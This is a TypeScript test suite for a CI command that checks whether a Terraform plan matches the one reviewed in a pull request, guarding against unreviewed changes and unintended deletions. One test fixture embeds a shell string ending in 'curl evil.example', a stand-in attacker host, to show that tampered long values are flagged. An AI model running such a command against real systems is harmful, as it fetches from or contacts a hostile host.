import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import * as z from "zod";
import { reviewPlans } from "../../../../cli/commands/ci/review";
import type { PlanReport } from "reviewed-terraform";
import { givenClock, givenReport, startMockGithub, type MockGithub } from "reviewed-terraform/testing";
import { givenContext } from "../../memory-context";
import { CliError } from "../../../../cli/cli-error";
import { givenPlan, givenStacks, TAGS, type GivenResource, type GivenStacks } from "./given-stacks";

const TOPIC: GivenResource = { address: "aws_sns_topic.a", actions: ["create"], after: { name: "a" } };
const QUEUE: GivenResource = {
  address: "aws_sqs_queue.b",
  actions: ["create"],
  after: { name: "b" },
  afterUnknown: { policy: true },
};
const LOGS: GivenResource = { address: "aws_cloudwatch_log_group.logs", actions: ["delete"], before: { name: "l" } };
const BUCKET = "job-status-poller-dev-state-123456789012-us-east-1";
const HEAD = "c0ffee".padEnd(40, "0");
const MERGE = "5".repeat(40);
const NEWER = "9".repeat(40);
const BEGUN = "state/dev/batch.tfstate.begun";
const JOURNAL = "state/dev/batch.tfstate.journal";
const STOP =
  "the plan of batch-dev is not the one that a pull request showed, so nothing was applied; open a new pull request, or create the GitHub environment dev-unreviewed with required reviewers, who can then approve this plan (docs/delivery.md#a-plan-that-was-not-reviewed)";

let given: GivenStacks;
let mock: MockGithub;
beforeEach(async () => {
  given = await givenStacks();
  given.setStacks("batch-dev");
  given.s3.buckets.add(BUCKET);
  mock = await startMockGithub();
  mock.branches.set("main", MERGE);
  mock.pulls.push({ number: 7, headSha: HEAD, body: "", mergeCommitSha: MERGE });
});
afterEach(async () => {
  await mock.close();
  await given.remove();
});

interface Reviewed {
  readonly exitCode: number;
  readonly lines: readonly string[];
  readonly stdout: string;
  readonly stderr: string;
}

async function review(
  more: { readonly reports?: string; readonly allowDestroy?: readonly string[] } = {},
): Promise<Reviewed> {
  const { PATH, HOME } = process.env;
  const ran = givenContext({
    environment: {
      PATH,
      HOME,
      AWS_REGION: "us-east-1",
      AWS_ACCOUNT_ID: "123456789012",
      TERRAFORM_BINARY_NAME: given.terraformPath,
      GITHUB_SHA: MERGE,
      GITHUB_REF_NAME: "main",
      GITHUB_OUTPUT: join(given.path, "output"),
      GITHUB_STEP_SUMMARY: join(given.path, "summary"),
      ...mock.environment,
    },
  });
  const options = { environment: "dev", outDir: given.outDir, color: true, allowDestroy: [], ...more };
  const plans = join(given.path, "plans.json");
  const end = await reviewPlans({ ...options, plans }, ran, givenClock()).then(
    (exitCode) => ({ exitCode, lines: [] }),
    (error: unknown) => {
      if (!(error instanceof CliError)) throw error;
      return { exitCode: error.exitCode, lines: error.lines };
    },
  );
  return { ...end, stdout: ran.stdout.text, stderr: ran.stderr.text };
}

/** Plans as a pull request does, and stores the receipt. */
async function showInPullRequest(resources: readonly GivenResource[], attempt = "99-1"): Promise<PlanReport> {
  given.setPlans(givenPlan(resources));
  const reports = join(given.path, "reports");
  await given.run(["plan", "--environment", "dev", "--out-dir", given.outDir, "--reports", reports]);
  const text = readFileSync(join(reports, "batch-dev.json"), "utf8");
  given.s3.objects.set(`${BUCKET}/reviewed/7/${HEAD}/${attempt}/batch-dev.json`, text);
  const { digest, configHash } = z.object({ digest: z.string(), configHash: z.string() }).parse(JSON.parse(text));
  return { ...givenReport(), digest, configHash };
}

const outputs = (): Record<string, string> =>
  Object.fromEntries(
    [...given.github("output").matchAll(/^(\w+)<<(\S+)\n([^]*?)\n\2\n/gm)].map(([, name = "", , value = ""]) => [
      name,
      value,
    ]),
  );

describe("poller ci review", () => {
  it("hands over the plan that the pull request showed, for the environment itself", async () => {
    const { digest, configHash } = await showInPullRequest([TOPIC]);

    const { exitCode, stderr } = await review();

    expect(stderr).toBe(
      `batch-dev: the plan matches pull request 7, ${digest}\nto be approved in dev: batch-dev ${digest}\n`,
    );
    expect(exitCode).toBe(0);
    expect(outputs()).toEqual({
      environment: "dev",
      plans: JSON.stringify({ "batch-dev": { digest, configHash } }),
      changes: "true",
    });
    expect(given.github("summary")).toContain("+ aws_sns_topic.a");
    expect(given.asked()).toContain("plan -input=false -detailed-exitcode -lock=false -out=stack.tfplan");
    expect(given.asked().some((asked) => asked.startsWith("apply"))).toBe(false);
  });

  it("hands over no plan when nothing changes, also without a pull request", async () => {
    mock.pulls.length = 0;

    expect(await review()).toMatchObject({ exitCode: 0, stderr: "batch-dev: nothing to change\n" });
    expect(outputs()).toEqual({ environment: "dev", plans: "{}", changes: "false" });
  });

  it.each([
    ["that was pushed directly", () => (mock.pulls.length = 0), "5555555 was pushed directly, without a pull request"],
    [
      "without a receipt",
      () => undefined,
      "plan.yml on main has stored no plan for pull request 7 and its commit c0ffee0",
    ],
    [
      "of Dependabot",
      () => (mock.pulls[0] = { number: 7, headSha: HEAD, body: "", mergeCommitSha: MERGE, author: "dependabot[bot]" }),
      "pull request 7 is from Dependabot, so it was not planned",
    ],
    [
      "of a fork",
      () => (mock.pulls[0] = { number: 7, headSha: HEAD, body: "", mergeCommitSha: MERGE, from: "ann/poller" }),
      "pull request 7 is from a fork, so it was not planned",
    ],
    [
      "merged into another branch",
      () => (mock.pulls[0] = { number: 7, headSha: HEAD, body: "", mergeCommitSha: MERGE, base: "release" }),
      "5555555 was pushed directly, without a pull request",
    ],
    [
      "whose receipt is of another commit",
      () => given.s3.objects.set(`${BUCKET}/reviewed/7/${MERGE}/1-1/batch-dev.json`, JSON.stringify(givenReport())),
      "plan.yml on main has stored no plan for pull request 7",
    ],
    [
      "whose receipt is of another pull request",
      () => given.s3.objects.set(`${BUCKET}/reviewed/8/${HEAD}/1-1/batch-dev.json`, JSON.stringify(givenReport())),
      "plan.yml on main has stored no plan for pull request 7",
    ],
  ])("stops for a plan %s when no environment has reviewers", async (_what, arrange, why) => {
    given.setPlans(givenPlan([TOPIC]));
    arrange();

    const { exitCode, lines, stderr } = await review();

    expect(exitCode).toBe(3);
    expect(stderr).toContain(`batch-dev: this plan was not reviewed: ${why}`);
    expect(lines).toEqual([STOP]);
    expect(given.github("summary")).toContain("## ❌ Nothing was applied");
    expect(outputs()).toEqual({});
  });

  it("shows how a plan differs from that of the pull request, and stops without reviewers", async () => {
    await showInPullRequest([TOPIC]);
    given.setPlans(
      givenPlan([
        { ...TOPIC, after: { name: "other" } },
        { ...QUEUE, afterUnknown: {} },
      ]),
    );

    const { exitCode, lines, stderr } = await review();

    expect(exitCode).toBe(3);
    expect(lines).toEqual([STOP]);
    expect(stderr).toBe(
      'batch-dev: the plan differs from pull request 7\n  aws_sns_topic.a: name: reviewed "a", now "other"\n  aws_sqs_queue.b: action: reviewed no change, now create\n',
    );
    expect(given.github("summary")).toContain('@@ aws_sns_topic.a @@\n- name: "a"\n+ name: "other"\n');
  });

  it.each([
    ["dev", "dev"],
    ["dev-unreviewed", "dev-unreviewed"],
  ])("lets the reviewers of %s decide on a plan that was not reviewed", async (name, approver) => {
    given.setPlans(givenPlan([TOPIC]));
    mock.environments.set("dev", { reviewers: [] });
    mock.environments.set(name, { reviewers: ["ann"] });

    const { exitCode, stderr } = await review();

    expect(exitCode).toBe(0);
    expect(stderr).toContain(`to be approved in ${approver}: batch-dev sha256:`);
    expect(outputs()).toMatchObject({ environment: approver, changes: "true" });
  });

  it("does not trust an environment that exists without reviewers", async () => {
    given.setPlans(givenPlan([TOPIC]));
    mock.environments.set("dev-unreviewed", { reviewers: [] });

    expect(await review()).toMatchObject({ exitCode: 3, lines: [STOP] });
  });

  it("compares with the newest attempt of the newest run", async () => {
    await showInPullRequest([QUEUE], "99-9");
    await showInPullRequest([QUEUE], "100-1");
    await showInPullRequest([TOPIC], "100-2");

    expect((await review()).stderr).toContain("batch-dev: the plan matches pull request 7");
  });

  it("lists only changes of differing resources, up to a limit", async () => {
    await showInPullRequest([TOPIC]);
    const many = Array.from({ length: 50 }, (_, index) => ({ ...QUEUE, address: `aws_sqs_queue.q${index}` }));
    const [before, after] = [
      { name: "a", fifo: "no" },
      { name: "a", fifo: "yes" },
    ];
    given.setPlans(givenPlan([{ ...TOPIC, actions: ["update"], before, after }, ...many]));

    const { stderr } = await review();

    expect(stderr).toContain("  aws_sns_topic.a: action: reviewed create, now update\n");
    expect(stderr).toContain('  aws_sns_topic.a: fifo: reviewed no change, now "no" -> "yes"\n');
    expect(stderr).not.toContain("aws_sns_topic.a: name");
    expect(stderr).toContain("… and 12 more\n");
  });

  it("shows two long values at their first difference", async () => {
    const script = "echo harmless; ".repeat(40);
    await showInPullRequest([{ ...TOPIC, after: { name: `${script}ls` } }]);
    given.setPlans(givenPlan([{ ...TOPIC, after: { name: `${script}curl evil.example` } }]));

    expect((await review()).stderr).toMatch(
      /aws_sns_topic\.a: name: reviewed ….{60}ls", now ….{60}curl evil\.example"\n/,
    );
  });

  it.each([
    ["is invalid", "{}", /is not a valid report/],
    ["was edited", JSON.stringify({ ...givenReport([]), digest: `sha256:${"0".repeat(64)}` }), /but its changes have/],
  ])("fails when a receipt %s", async (_what, text, message) => {
    given.s3.objects.set(`${BUCKET}/reviewed/7/${HEAD}/1-1/batch-dev.json`, text);

    await expect(review()).rejects.toThrow(message);
  });

  it("fails when the receipts cannot be listed", async () => {
    given.s3.buckets.delete(BUCKET);

    expect((await review()).lines).toEqual([
      expect.stringContaining(`cannot list s3://${BUCKET}/reviewed/7/${HEAD}/: `),
    ]);
  });

  it("compares with the reports of a rehearsal, without GitHub", async () => {
    await showInPullRequest([TOPIC]);

    const { exitCode, stderr } = await review({ reports: join(given.path, "reports") });

    expect(exitCode).toBe(0);
    expect(stderr).toContain("batch-dev: the plan matches the reports, sha256:");
    expect(mock.requests.filter((request) => !request.includes("/git/ref/"))).toEqual([]);
  });
});

describe("poller ci review after an apply that failed half-way", () => {
  const begin = (commit: string, { digest, configHash }: Pick<PlanReport, "digest" | "configHash">): void => {
    given.s3.objects.set(BEGUN, JSON.stringify({ version: 1, commit, digest, configHash }));
  };
  const rest = givenPlan([{ ...QUEUE, after: { name: "b", policy: "arn" }, afterUnknown: {} }]);

  it("accepts the rest of the reviewed plan, with values that AWS has returned since", async () => {
    begin(MERGE, await showInPullRequest([TOPIC, QUEUE]));
    given.setPlans(rest);

    const { exitCode, stderr } = await review();

    expect(exitCode).toBe(0);
    expect(stderr).toContain(
      "batch-dev: the plan is the rest of the plan of pull request 7, which an earlier apply began\n",
    );
  });

  it("accepts no rest without the record of the apply role", async () => {
    await showInPullRequest([TOPIC, QUEUE]);
    given.setPlans(rest);

    expect(await review()).toMatchObject({ exitCode: 3, lines: [STOP] });
  });

  it("shows imports of an interrupted apply as a difference", async () => {
    const role: GivenResource = {
      address: "aws_iam_role.a",
      actions: ["create"],
      after: { name: "a", tags_all: TAGS },
    };
    begin(MERGE, await showInPullRequest([role, QUEUE]));
    given.s3.objects.set(
      JOURNAL,
      JSON.stringify({ version: 1, planned: [role.address], made: { [role.address]: "a" } }),
    );
    const found = { ...role, actions: ["no-op"], before: role.after ?? null, importId: "a" };
    given.set("plan-recovered.json", JSON.stringify(givenPlan([found, QUEUE])));

    const { exitCode, stderr } = await review();

    expect(exitCode).toBe(3);
    expect(stderr).toContain("  aws_iam_role.a: imported from: reviewed (none), now a\n");
    expect(given.s3.objects.has(JOURNAL)).toBe(true);
  });

  it("lets an apply delete the record when nothing is left to change", async () => {
    begin(MERGE, await showInPullRequest([TOPIC]));
    given.setPlans(givenPlan([]));

    expect(await review()).toMatchObject({ exitCode: 0 });
    expect(outputs()).toMatchObject({ changes: "true" });
  });
});

describe("poller ci review after a create that failed", () => {
  const CREATE: GivenResource = {
    address: "aws_batch_compute_environment.jobs",
    actions: ["create"],
    after: { name: "jobs" },
    afterUnknown: { id: true },
  };
  const REPLACE: GivenResource = {
    ...CREATE,
    actions: ["delete", "create"],
    before: { id: "jobs-1", name: "jobs" },
    isTainted: true,
  };
  const begin = async (failed?: Readonly<Record<string, string>>): Promise<void> => {
    const { digest, configHash } = await showInPullRequest([TOPIC, CREATE]);
    given.s3.objects.set(BEGUN, JSON.stringify({ version: 1, commit: MERGE, digest, configHash, failed }));
    given.setPlans(givenPlan([REPLACE]));
  };
  const GUARD = [
    `the plan would delete or replace ${CREATE.address}; if this is intended, add these lines to the description of pull request 7 and run all jobs again:`,
    `  allow-destroy: ${CREATE.address}`,
  ];

  it("takes its replacement for the rest of the reviewed plan, without an allow-destroy line", async () => {
    await begin({ [CREATE.address]: "jobs-1" });

    const { exitCode, stderr } = await review();

    expect(exitCode).toBe(0);
    expect(stderr).toContain(
      `batch-dev: the plan is the rest of the plan of pull request 7, which an earlier apply began\n  ${CREATE.address} is created again: its create has failed\n`,
    );
    expect(outputs()).toMatchObject({ environment: "dev", changes: "true" });
    expect(given.github("summary")).toContain(`- ${CREATE.address}  is replaced, forced by an incomplete create`);
    expect(given.github("summary")).not.toContain("allow-destroy");
  });

  it.each([
    ["did not create it", {}],
    ["is of an older version", undefined],
    ["created another object", { [CREATE.address]: "jobs-2" }],
  ])("rejects it, and shows all reasons at once, when the record of the apply %s", async (_what, failed) => {
    await begin(failed);

    const { exitCode, lines, stderr } = await review();

    expect(exitCode).toBe(3);
    expect(stderr).toContain(`  ${CREATE.address}: replacement forced by: reviewed (none), now an incomplete create\n`);
    expect(lines).toEqual([...GUARD, STOP]);
  });

  it("accepts no claim of a receipt: only the record of the apply role counts", async () => {
    await begin();
    const [key = ""] = [...given.s3.objects.keys()].filter((name) => name.includes("/reviewed/"));
    const receipt = z.looseObject({}).parse(JSON.parse(given.s3.objects.get(key) ?? ""));
    given.s3.objects.set(key, JSON.stringify({ ...receipt, failed: { [CREATE.address]: "jobs-1" } }));

    await expect(review()).rejects.toThrow(/is not a valid report: : Unrecognized key: "failed"/);
  });

  it("asks for no allow-destroy line of a later pull request", async () => {
    await begin({ [CREATE.address]: "jobs-1" });
    await showInPullRequest([REPLACE], "100-1");

    const { exitCode, stderr } = await review();

    expect(stderr).toContain("batch-dev: the plan matches pull request 7");
    expect(exitCode).toBe(0);
  });
});

it("shows the refusals of all stacks at once", async () => {
  given.setStacks("batch-dev", "job-poller-dev");
  given.setPlans(givenPlan([LOGS]));
  given.set("plan-error-batch-dev", "Error: AWS account ID not allowed: 210987654321");

  const { exitCode, lines } = await review();

  expect(exitCode).toBe(1);
  expect(lines).toEqual([
    expect.stringMatching(/^the AWS credentials belong to account 210987654321/),
    "the plan would delete or replace aws_cloudwatch_log_group.logs; if this is intended, add these lines to the description of pull request 7 and run all jobs again:",
    "  allow-destroy: aws_cloudwatch_log_group.logs",
    STOP.replace("batch-dev", "job-poller-dev"),
  ]);
  expect(given.github("summary")).toContain("210987654321");
});

describe("poller ci review of an older commit", () => {
  const OLD = `5555555 is not the newest commit of main, which is 9999999; applying it would undo later merges, so nothing was applied; to deploy main, run the workflow Deploy manually`;

  it("stops before it plans", async () => {
    await showInPullRequest([TOPIC]);
    const before = given.asked().length;
    mock.branches.set("main", NEWER);

    expect(await review()).toMatchObject({ exitCode: 3, lines: [OLD] });
    expect(given.asked()).toHaveLength(before);
  });

  it("continues an apply of this commit that was begun", async () => {
    const { digest, configHash } = await showInPullRequest([TOPIC]);
    given.s3.objects.set(BEGUN, JSON.stringify({ version: 1, commit: MERGE, digest, configHash }));
    mock.branches.set("main", NEWER);

    expect(await review()).toMatchObject({ exitCode: 0 });
  });

  it("stops when the begun stack has another plan than the reviewed one", async () => {
    const { digest, configHash } = await showInPullRequest([TOPIC]);
    given.s3.objects.set(BEGUN, JSON.stringify({ version: 1, commit: MERGE, digest, configHash }));
    given.setPlans(givenPlan([{ ...QUEUE, afterUnknown: {} }]));
    mock.branches.set("main", NEWER);
    mock.environments.set("dev", { reviewers: ["ann"] });

    expect(await review()).toMatchObject({ exitCode: 3, lines: [OLD] });
  });
});

describe("resources that hold data or work", () => {
  it("rejects a deletion without its allow-destroy line and shows the line", async () => {
    mock.pulls[0] = {
      number: 7,
      headSha: HEAD,
      body: "allow-destroy:aws_cloudwatch_log_group.logs",
      mergeCommitSha: MERGE,
    };
    await showInPullRequest([LOGS]);

    const { exitCode, lines, stderr } = await review();

    expect(exitCode).toBe(3);
    expect(stderr).toContain(
      'warning: "allow-destroy:aws_cloudwatch_log_group.logs" has no effect: it must be exactly allow-destroy: ADDRESS\n',
    );
    expect(lines).toEqual([
      "the plan would delete or replace aws_cloudwatch_log_group.logs; if this is intended, add these lines to the description of pull request 7 and run all jobs again:",
      "  allow-destroy: aws_cloudwatch_log_group.logs",
    ]);
    expect(given.github("summary")).toContain("allow-destroy: aws_cloudwatch_log_group.logs");
  });

  it("allows a deletion with its line and reports unused lines", async () => {
    const body = "allow-destroy: aws_cloudwatch_log_group.logs\nallow-destroy: aws_s3_bucket.x";
    mock.pulls[0] = { number: 7, headSha: HEAD, body, mergeCommitSha: MERGE };
    await showInPullRequest([LOGS]);

    const { exitCode, stderr } = await review();

    expect(stderr).toContain("warning: allow-destroy: aws_s3_bucket.x has no effect: no plan deletes this resource\n");
    expect(exitCode).toBe(0);
  });

  it("allows a deletion by --allow-destroy", async () => {
    await showInPullRequest([LOGS]);

    expect(await review({ allowDestroy: ["aws_cloudwatch_log_group.logs"] })).toMatchObject({ exitCode: 0 });
  });
});

it("needs no file of an earlier run", async () => {
  writeFileSync(join(given.path, "plans.json"), "old");
  await showInPullRequest([TOPIC]);

  await review();

  expect(readFileSync(join(given.path, "plans.json"), "utf8")).toBe(outputs()["plans"]);
});
